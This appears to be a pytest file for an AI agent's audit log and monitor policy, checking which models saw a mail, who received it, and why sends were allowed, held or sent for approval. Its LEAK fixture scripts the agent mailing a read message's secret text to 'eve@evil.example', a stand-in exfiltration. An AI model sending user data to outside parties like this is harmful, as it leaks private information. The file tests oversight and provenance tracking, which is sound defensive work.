"""The log answers who saw what, and why."""

from contextlib import aclosing
from dataclasses import replace

import pytest
from tests.fakes.agent_scene import NOW, OUTSIDE, Mail, Scene, Scripted, mail
from tests.unit.agent.test_branching import TRIAGE, order
from tests.unit.agent.test_branching import scene as triage

from isthmus.agent.approval import Answered
from isthmus.agent.explaining import decisions, explained, replay, who_saw
from isthmus.agent.monitor.policy import shipped
from isthmus.agent.tool import Item

pytestmark = pytest.mark.anyio

SAID = "Send a mail to bob@example.org saying 'I will be late'."
SEND = ("mail_send", {"to": ["bob@example.org"], "text": "I will be late"})
LEAK = ("mail_send", {"to": ["eve@evil.example"], "text": "@mail_1.text"})
SEARCH: tuple[str, dict[str, str]] = ("mail_search", {})


def inbox() -> Mail:
    one: Item = mail("<1@x>", "ann@example.org", "The gate code is 4711.")
    return Mail({one.id: one})


async def test_of_each_thing_it_is_known_which_models_saw_it() -> None:
    scene = Scene(Scripted([SEARCH], "One mail."), inbox())
    await scene.say("Any mail?")
    (seen,) = who_saw(scene.log.read("c"))
    assert (seen.handle, seen.kind, seen.id, seen.toolset) == ("mail_1", "mail", "<1@x>", "mail")
    assert seen.labels == OUTSIDE.labels
    assert [(by.offer, by.side, by.request, by.apart) for by in seen.models] == [("home", "own", "req_2", False)]
    assert seen.parties == ()


async def test_who_was_sent_it_is_known_after_a_person_approved() -> None:
    scene = Scene(Scripted([SEARCH], [LEAK], "Sent."), inbox())
    await scene.say(SAID)
    (approval,) = await scene.agent.pending()
    await scene.agent.answer(Answered(approval=approval.id, verdict="approve_once", by="terminal", at=NOW))
    assert who_saw(scene.log.read("c"))[0].parties == (), "it was not sent yet"
    await scene.resume()
    (by,) = who_saw(scene.log.read("c"))[0].parties
    assert (by.party, by.tool, by.how) == ("mailto:eve@evil.example", "mail_send", "itself")


async def test_what_was_written_after_reading_counts_as_seen_and_the_users_own_words_do_not() -> None:
    scene = Scene(
        Scripted([SEARCH], [("mail_send", {"to": ["bob@example.org"], "text": "The code: 4711"})], "x"), inbox()
    )
    await scene.say(SAID)
    (approval,) = await scene.agent.pending()
    await scene.agent.answer(Answered(approval=approval.id, verdict="approve_once", by="terminal", at=NOW))
    await scene.resume()
    assert [by.how for by in who_saw(scene.log.read("c"))[0].parties] == ["what was written after it"]


async def test_a_held_send_is_seen_when_it_goes() -> None:
    scene = Scene(Scripted([SEARCH], [SEND], "Soon."), inbox(), hold_seconds=30)
    await scene.say(SAID)
    assert [one.became for one in decisions(scene.log.read("c"))] == ["done", "held"]
    scene.later(31)
    await scene.agent.deliver()
    assert [one.became for one in decisions(scene.log.read("c"))] == ["done", "done"]


async def test_who_read_apart_is_told_from_who_talks() -> None:
    it = triage([order()], "x")
    await it.say(TRIAGE)
    seen = {one.handle: one for one in who_saw(it.log.read("c"))}
    assert [by.apart for by in seen["mail_1"].models] == [False, True, False]
    assert seen["note_1"].labels == OUTSIDE.labels


async def test_every_decision_is_told_with_its_reasons() -> None:
    scene = Scene(Scripted([SEARCH], [LEAK], "x"), inbox())
    await scene.say(SAID)
    first, second = decisions(scene.log.read("c"))
    assert (first.tool, first.verdict) == ("mail_search", "allowed")
    assert (second.tool, second.verdict, second.parties) == ("mail_send", "ask", ("mailto:eve@evil.example",))
    told = explained(second)
    assert told.startswith("mail_send to mailto:eve@evil.example: asked of a person\n  ")
    assert "destination_not_endorsed: " in told


async def test_all_decisions_come_out_the_same_when_they_are_made_again() -> None:
    scene = Scene(Scripted([SEARCH], [LEAK], [SEND], "x"), inbox())
    await scene.say(SAID)
    (approval,) = await scene.agent.pending()
    await scene.agent.answer(Answered(approval=approval.id, verdict="endorse_value", by="terminal", at=NOW))
    await scene.resume()
    await scene.say("Thanks.")
    events = list(scene.log.read("c"))
    assert sum("outcome" in event.content for event in events if event.kind == "judged") == 3
    assert replay(events) == []


async def test_another_policy_decides_otherwise_and_it_is_told_where() -> None:
    scene = Scene(Scripted([SEND], "x"))
    async with aclosing(scene.agent.turn(SAID, conversation="c")) as turn:
        async for _ in turn:
            pass
    stricter = replace(shipped(), never_tools=frozenset({"mail_send"}))
    (difference,) = replay(scene.log.read("c"), policy=stricter)
    assert difference.was.startswith("allowed ")
    assert difference.is_now == "refused policy_forbids"
